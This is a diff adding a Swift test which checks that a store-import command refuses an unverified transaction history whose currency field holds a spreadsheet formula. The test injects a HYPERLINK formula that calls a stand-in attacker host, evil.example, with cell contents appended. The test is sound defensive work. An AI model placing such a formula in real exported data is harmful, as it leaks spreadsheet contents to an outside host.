@@ -328,6 +328,30 @@ struct StoreImportTests {
         #expect(duplicates.first?["message"]?.contains("appears again with other content") == true)
         #expect(duplicated.jsonObject?["mergedCopies"] as? Int ?? 0 >= 1)
     }
+
+    @Test("an unverified import whose currency is a spreadsheet formula is refused, naming the transaction (#53)")
+    func formulaCurrencyRefused() async throws {
+        let scratch = Scratch()
+        let (store, _) = try await TestStores.directory(in: scratch, name: "source", environment: .sandbox)
+        #expect(await CommandRun.run(["purchase", store.path, "com.example.shop.pro", "--account", "alice", "--device", "phone"]).status == 0)
+        let out = scratch.url.appendingPathComponent("alice")
+        #expect(await CommandRun.run(["store", "export", store.path, "--account", "alice", "--format", "server-api", out.path]).status == 0)
+        let history = out.appendingPathComponent("transaction-history-1.json")
+        var page = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: history)) as? [String: Any])
+        let signed = try #require(page["signedTransactions"] as? [String])
+        page["signedTransactions"] = try signed.map { jws -> String in
+            let parts = jws.split(separator: ".").map(String.init)
+            var payload = try Self.payload(jws)
+            payload["currency"] = #"=HYPERLINK("http://evil.example/?"&A1,"USD")"#
+            return [parts[0], Base64URL.encode(try JSONSerialization.data(withJSONObject: payload)), parts[2]].joined(separator: ".")
+        }
+        try JSONSerialization.data(withJSONObject: page).write(to: history)
+        let target = scratch.url.appendingPathComponent("imported")
+        let refused = await CommandRun.run(["store", "import", target.path, "--unverified", "--json", "--from", history.path])
+        #expect(refused.status != 0 && refused.standardError.contains("not an ISO 4217 code") && refused.standardError.contains("=HYPERLINK"),
+                "\(refused.standardError)")
+        #expect(!FileManager.default.fileExists(atPath: target.appendingPathComponent("ledger.sqlite").path) || refused.standardOutput.isEmpty)
+    }
 }
 
 extension Calendar {
